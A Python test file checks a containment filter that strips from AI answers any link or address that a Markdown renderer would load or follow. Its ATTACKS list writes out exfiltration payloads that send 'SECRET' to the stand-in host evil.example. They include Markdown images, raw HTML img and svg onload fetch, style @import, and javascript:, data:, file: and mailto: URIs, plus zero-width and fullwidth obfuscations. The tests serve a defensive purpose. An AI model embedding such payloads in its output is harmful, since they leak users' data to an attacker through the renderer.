"""What an answer may not do to whoever looks at it: judged by a real renderer of Markdown."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from penstock.serving.containment import Containment, addresses, contained

SOURCE = "See https://docs.example/a?b=1, and write to help@docs.example. A = (b < c)."
KNOWN = addresses([SOURCE])
EVIL = "https://evil.example/?d=SECRET"
PLAIN = {"p", "em", "strong", "code", "pre", "ul", "li", "blockquote", "hr", "br", "h1", "h2"}
RENDERER = MarkdownIt("commonmark", {"html": True})
ATTACKS = (
    f"![x]({EVIL})", f"![x]\n({EVIL})", f"[x]({EVIL})", f"![x][r]\n\n[r]: {EVIL}", f"<{EVIL}>",
    f"<img src={EVIL}>", f'<IMG/SRC="{EVIL}">', f"<a href='{EVIL}'>x</a>", f"<!--{EVIL}-->",
    f"<style>@import '{EVIL}'</style>", f"<svg onload=fetch('{EVIL}')>", EVIL, EVIL.upper(),
    f"({EVIL})", f'"{EVIL}"', f"**{EVIL}**", "//evil.example/SECRET", "www.evil.example/SECRET",
    "![x](//evil.example/SECRET)", "![x](/\\evil.example/SECRET)", "javascript:alert('SECRET')",
    "[x](javascript:alert(1))", "data:text/html,SECRET", "[x](data:text/html;base64,SECRET)",
    "&#104;ttps://evil.example/SECRET", "https:\\/\\/evil.example/SECRET",
    "ht\u200btps://evil.example/SECRET", "https\u2060://evil.example/SECRET",
    "ｈttps://evil.example/SECRET", "https：//evil.example/SECRET",
    "https://docs.example/a?b=1SECRET", "https://docs.example/a?b=1&d=SECRET",
    "https://docs.example/a?b=1#SECRET", "https://docs.example@evil.example/SECRET",
    "![x](<https://evil.example/SECRET>)", "![x](https://evil.example/SECRET 'title')",
    "!![x](https://evil.example/SECRET)", "\\![x](https://evil.example/SECRET)",
    "&lt;img src=https://evil.example/SECRET&gt;", "ftp://evil.example/SECRET",
    "file:///etc/SECRET", "mailto:evil@evil.example?body=SECRET",
)  # fmt: skip


class Tags(HTMLParser):
    """The tags of a page that are none of a plain text's."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in PLAIN or attrs:
            self.found.append(f"{tag} {attrs}")

    def handle_comment(self, data: str) -> None:
        self.found.append(data)


def reached(text: str) -> list[str]:
    """Whatever a renderer would load, or link to."""
    tags = Tags()
    tags.feed(RENDERER.render(text))
    found = tags.found
    # In the middle of a word neither // nor www. is linked by anything.
    link = r"(?i)(?:\b[a-z][a-z0-9+.-]*:|(?<!\w))//[^\s<]+|(?<!\w)www\.[^\s<]+"
    found += re.findall(link, text)
    return [one for one in found if one.rstrip(".,") not in KNOWN]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_leads_nowhere(attack: str) -> None:
    """Alone, within a sentence, and letter by letter."""
    for text in (attack, f"It is so [1]. {attack} And so on [2]."):
        whole = contained(text, KNOWN)
        assert reached(whole) == [], whole
        containment = Containment(KNOWN)
        pieces = "".join(containment.push(letter) for letter in text) + containment.end()
        assert reached(pieces) == [], pieces


@pytest.mark.parametrize(
    "text",
    [
        SOURCE,
        "It is so [1][2]. At 10:30, 3 < 4, a/b, and/or, C:\\temp; see docs: (x) [1, 2].",
        "Note: use x:y and `a[1]` and 日本語です。はい。",
        "- one\n- two\n\n| a | b |\n|---|---|\n",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert contained(text, KNOWN) == text


@pytest.mark.parametrize("before", ["https:", "see:", "a:b:(", "note:*"])
def test_an_address_behind_another_word_is_one(before: str) -> None:
    """Also where the two together are none."""
    assert "SECRET" not in contained(f"{before}https://evil.example/?d=SECRET", KNOWN)
    good = next(iter(KNOWN))
    assert contained(f"{before}{good}", KNOWN) == f"{before}{good}"
    assert contained("metadata:value of:it", KNOWN) == "metadata:value of:it"


@pytest.mark.parametrize("scheme", ["https:", "note:", "https:http:x:"])
@pytest.mark.parametrize("address", ["https://evil.example/SECRET", "ｈttps://evil.example/SECRET"])
def test_an_address_behind_what_looks_like_a_scheme_leads_nowhere(
    scheme: str, address: str
) -> None:
    """A renderer links from the second on."""
    assert reached(contained(f"{scheme}{address} [1]", KNOWN)) == []


@pytest.mark.parametrize(
    "text",
    [
        "a////evil.example/SECRET![x]",
        "https:![//evil.example/SECRET![x][r]",
        "https:![www.evil.example/SECRET[x](javascript:alert(1))",
    ],
)
def test_an_address_between_brackets_and_slashes_leads_nowhere(text: str) -> None:
    """Found by chance."""
    assert reached(contained(text, KNOWN)) == []


@given(
    st.lists(st.sampled_from((*ATTACKS, "[1]", " ", "\n", "](", "![", "<", "https:", "//", "a"))),
    st.lists(st.integers(1, 9)),
)
def test_pieces_make_what_the_whole_makes(parts: list[str], sizes: list[int]) -> None:
    """However a model cuts its text."""
    text = "".join(parts)
    containment, found, place = Containment(KNOWN), [], 0
    for size in sizes:
        found.append(containment.push(text[place : place + size]))
        place += size
    found += [containment.push(text[place:]), containment.end()]
    assert "".join(found) == contained(text, KNOWN)
    assert reached("".join(found)) == []
